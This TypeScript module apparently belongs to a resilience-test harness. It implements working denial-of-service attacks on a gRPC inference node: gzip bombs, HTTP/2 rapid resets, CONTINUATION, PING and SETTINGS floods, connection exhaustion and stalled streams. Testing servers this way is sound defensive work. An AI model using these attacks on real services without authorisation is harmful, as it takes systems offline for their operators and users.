/** Attacks of a client without a key on the gRPC face. */
import { connect, type Socket } from 'node:net';
import { once } from 'node:events';
import { setTimeout as sleep } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import { inLoops, type Attack } from './attack.ts';
import { keepSockets } from './kept-sockets.ts';
import {
  endSession,
  field,
  frame,
  MODEL_INFER,
  openCall,
  openSession,
  request,
  SERVER_LIVE,
  SERVER_METADATA,
  WATCH,
} from './grpc-wire.ts';

const MIB = 1024 * 1024;
/** Streams at once on a connection, as many as the node lets a client have. */
const STREAMS = 200;
/** More than the node keeps, by any count. */
const CONNECTIONS = 1500;

/** 63 MiB of unknown fields in 64 KiB. */
const bomb = frame(gzipSync(Buffer.alloc(63 * MIB, Buffer.from([0xa0, 0x06, 0x01]))), true);
const junk = frame(Buffer.alloc(8 * MIB, Buffer.from([0xa0, 0x06, 0x01])));

/** Calls on one session, again on a new one when the node ends it. */
function calls(
  name: string,
  path: string,
  body: Uint8Array,
  headers: Record<string, string> = {},
): Attack {
  return {
    name,
    async run(target, until) {
      let session = openSession(target);
      await inLoops(STREAMS, until, async () => {
        if (session.destroyed) session = openSession(target);
        await request(session, path, body, headers);
      });
      await endSession(session);
    },
  };
}

/** Opens what it can and holds it, without reading any answer. */
function held(
  name: string,
  path: string,
  body: Uint8Array,
  { window = 65_535, whole = true }: { window?: number; whole?: boolean } = {},
): Attack {
  return {
    name,
    async run(target, until) {
      const sessions = new Set<ReturnType<typeof openSession>>();
      await inLoops(50, until, async () => {
        const session = openSession(target, window);
        sessions.add(session);
        session.on('close', () => sessions.delete(session));
        for (let count = 0; count < STREAMS && !session.destroyed; count++) {
          const stream = openCall(session, path);
          stream.pause();
          stream.write(body);
          if (whole) stream.end();
        }
        await sleep(100);
      });
      await Promise.all([...sessions].map(endSession));
    },
  };
}

/** A TCP connection on which `speak` sends bytes of its own; a new one when the node ends it. */
function raw(name: string, speak: (socket: Socket, until: AbortSignal) => Promise<void>): Attack {
  return {
    name,
    run: (target, until) =>
      inLoops(8, until, async () => {
        const socket = connect(target.grpcPort, target.host);
        socket.on('error', () => {});
        socket.resume();
        await once(socket, 'connect');
        socket.write(PREFACE);
        await speak(socket, until);
        socket.destroy();
      }),
  };
}

const SETTINGS = Buffer.from([0, 0, 0, 4, 0, 0, 0, 0, 0]);
const PREFACE = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), SETTINGS]);
const PING = Buffer.concat([Buffer.from([0, 0, 8, 6, 0, 0, 0, 0, 0]), Buffer.alloc(8)]);
/** HEADERS of stream 1 without END_HEADERS, and CONTINUATION frames that never end them. */
const HEADERS = Buffer.from([0, 0, 1, 1, 0, 0, 0, 0, 1, 0x83]);
const CONTINUATION = Buffer.concat([
  Buffer.from([0, 0x40, 0, 9, 0, 0, 0, 0, 1]),
  Buffer.alloc(0x40_00, Buffer.from('\0\x01a\x01b', 'latin1')),
]);

/** Sends the same bytes for as long as the node takes them. */
function flood(name: string, first: Buffer, bytes: Buffer): Attack {
  const much = Buffer.concat(Array.from({ length: Math.ceil(65_536 / bytes.length) }, () => bytes));
  return raw(name, async (socket, until) => {
    socket.write(first);
    while (!socket.destroyed && !until.aborted) {
      // Called when the node has taken it, or with why it did not.
      const taken = new Promise((resolve) => socket.write(much, resolve));
      await Promise.race([taken, sleep(200)]);
    }
  });
}

/** Opens the most connections that are allowed, and holds them. */
const connections = (name: string, greet: (socket: Socket) => void): Attack => ({
  name,
  run: keepSockets(
    CONNECTIONS,
    (socket) => {
      socket.resume();
      greet(socket);
    },
    'grpcPort',
  ),
});

/** Calls that are cancelled as soon as they are sent. */
const rapidReset: Attack = {
  name: 'gRPC: rapid resets',
  async run(target, until) {
    await inLoops(8, until, async () => {
      const session = openSession(target);
      while (!session.destroyed && !until.aborted) {
        for (let count = 0; count < STREAMS && !session.destroyed; count++) {
          openCall(session, SERVER_LIVE).close();
        }
        await sleep(1);
      }
      await endSession(session);
    });
  },
};

/** A message in DATA frames of one byte each. */
const crumbs: Attack = {
  name: 'gRPC: messages in frames of one byte',
  async run(target, until) {
    let session = openSession(target);
    await inLoops(STREAMS, until, async () => {
      if (session.destroyed) session = openSession(target);
      const stream = openCall(session, SERVER_LIVE);
      stream.resume();
      for (const byte of frame(Buffer.alloc(60_000)).subarray(0, 2000)) {
        if (stream.closed || until.aborted) break;
        await new Promise((resolve) => stream.write(Buffer.of(byte), resolve));
      }
      stream.close();
    });
    await endSession(session);
  },
};

const gzip = { 'grpc-encoding': 'gzip' };

export const grpcAttacks: readonly Attack[] = [
  calls('gRPC: gzip bombs to ServerLive', SERVER_LIVE, bomb, gzip),
  calls('gRPC: gzip bombs to ModelInfer', MODEL_INFER, bomb, gzip),
  calls('gRPC: 8 MiB of unknown fields to ServerLive', SERVER_LIVE, junk),
  calls('gRPC: 8 MiB messages to ModelInfer', MODEL_INFER, junk),
  calls('gRPC: 8 MiB messages to an unknown method', '/none/None', junk),
  calls('gRPC: 60 KiB of metadata', SERVER_LIVE, frame(Buffer.alloc(0)), {
    'x-large': 'x'.repeat(60_000),
  }),
  calls(
    'gRPC: ServerMetadata, as fast as it answers',
    SERVER_METADATA,
    frame(field(15, Buffer.alloc(60_000))),
  ),
  held('gRPC: answers that are not taken', SERVER_METADATA, frame(Buffer.alloc(0)), { window: 0 }),
  held(
    'gRPC: messages that never end',
    SERVER_LIVE,
    frame(Buffer.alloc(60_000)).subarray(0, 50_000),
    { whole: false },
  ),
  held('gRPC: health watches', WATCH, frame(Buffer.alloc(0))),
  connections('gRPC: silent connections', () => {}),
  connections('gRPC: idle HTTP/2 connections', (socket) => socket.write(PREFACE)),
  rapidReset,
  crumbs,
  flood('gRPC: PING flood', Buffer.alloc(0), PING),
  flood('gRPC: SETTINGS flood', Buffer.alloc(0), SETTINGS),
  flood('gRPC: CONTINUATION flood', HEADERS, CONTINUATION),
];
